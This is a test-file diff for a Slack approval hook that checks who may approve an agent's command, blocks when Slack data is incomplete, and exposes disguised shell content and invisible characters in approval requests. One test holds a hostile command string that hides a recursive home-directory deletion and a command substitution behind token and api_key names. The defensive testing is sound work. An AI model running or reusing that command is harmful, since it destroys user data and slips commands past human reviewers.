@@ -126,6 +126,38 @@ describe('who may approve', () => {
     expect(await decisionOf('slack-approval.mjs', env)).toMatchObject({block: false})
   })
 
+  it('stays who the profile lists where the variable names nobody', async () => {
+    const env = {OPENCLAW_APPROVAL_ALLOWED_USER_IDS: ' , ', OPENCLAW_APPROVAL_REQUIRE_ALLOWED_USERS: 'false'}
+    slack.users = {U0ANYONE: {is_bot: false}}
+    slack.replies = ({nonce}) => [{user: 'U0ANYONE', text: `approve ${nonce}`}]
+    expect(await decisionOf('slack-approval.mjs', env)).toMatchObject({block: true})
+    slack.replies = ({nonce}) => [{user: humanId, text: `approve ${nonce}`}]
+    expect(await decisionOf('slack-approval.mjs', env)).toMatchObject({block: false})
+  })
+
+  it('is not decided while Slack does not say whether one who rejects is human', async () => {
+    profileOf({allowedUserIds: []})
+    slack.users = {U0ANYONE: {is_bot: false}}
+    slack.replies = ({nonce}) => [
+      {user: 'U0ANYONE', text: `approve ${nonce}`},
+      {user: 'U0HIDDEN', text: `reject ${nonce}`},
+    ]
+    const env = {OPENCLAW_APPROVAL_REQUIRE_ALLOWED_USERS: 'false'}
+    expect(await decisionOf('slack-approval.mjs', env)).toMatchObject({
+      block: true,
+      blockReason: expect.stringContaining('user_not_found'),
+    })
+  })
+
+  it('is not decided while Slack does not name all who reacted', async () => {
+    slack.replies = ({nonce}) => [{user: humanId, text: `approve ${nonce}`}]
+    slack.reactions = () => [{name: 'x', users: [], count: 1}]
+    expect(await decisionOf()).toMatchObject({
+      block: true,
+      blockReason: expect.stringContaining('does not name all who reacted'),
+    })
+  })
+
   it('is any human, and no bot, only if the operator says that nobody need be listed', async () => {
     profileOf({allowedUserIds: []})
     const env = {OPENCLAW_APPROVAL_REQUIRE_ALLOWED_USERS: 'false'}
@@ -166,6 +198,19 @@ describe('a request', () => {
     expect(text).toContain('`main`')
     expect(text).toContain('a &amp; &lt;!channel&gt; ˋˋˋx\\u202e')
     for (const secret of ['abcdefghijklmnop', 'hunter2', 'hunter3', 'u:pw']) expect(text).not.toContain(secret)
+  })
+
+  it('does not hide what a shell would run behind the look of a secret', async () => {
+    const command = 'echo token=$(rm$IFS-r$IFS~); api_key=;curl\tx; curl https://$(id):y@h -H "password=geheim99"'
+    await decisionOf('slack-approval.mjs', {}, {params: {command}})
+    const [text = ''] = slack.posted.values()
+    for (const shown of ['$(rm$IFS-r$IFS~)', 'api_key=;curl', '$(id):y']) expect(text).toContain(shown)
+    expect(text).not.toContain('geheim99')
+  })
+
+  it('shows letters that nobody would see', async () => {
+    await decisionOf('slack-approval.mjs', {}, {params: {command: 'a\u00adb\u2028c\u3164d\u{e0041}e\ufe0ff'}})
+    expect([...slack.posted.values()][0]).toContain('a\\u00adb\\u2028c\\u3164d\\ue0041e\\ufe0ff')
   })
 
   it('that nobody could read in full is refused', async () => {
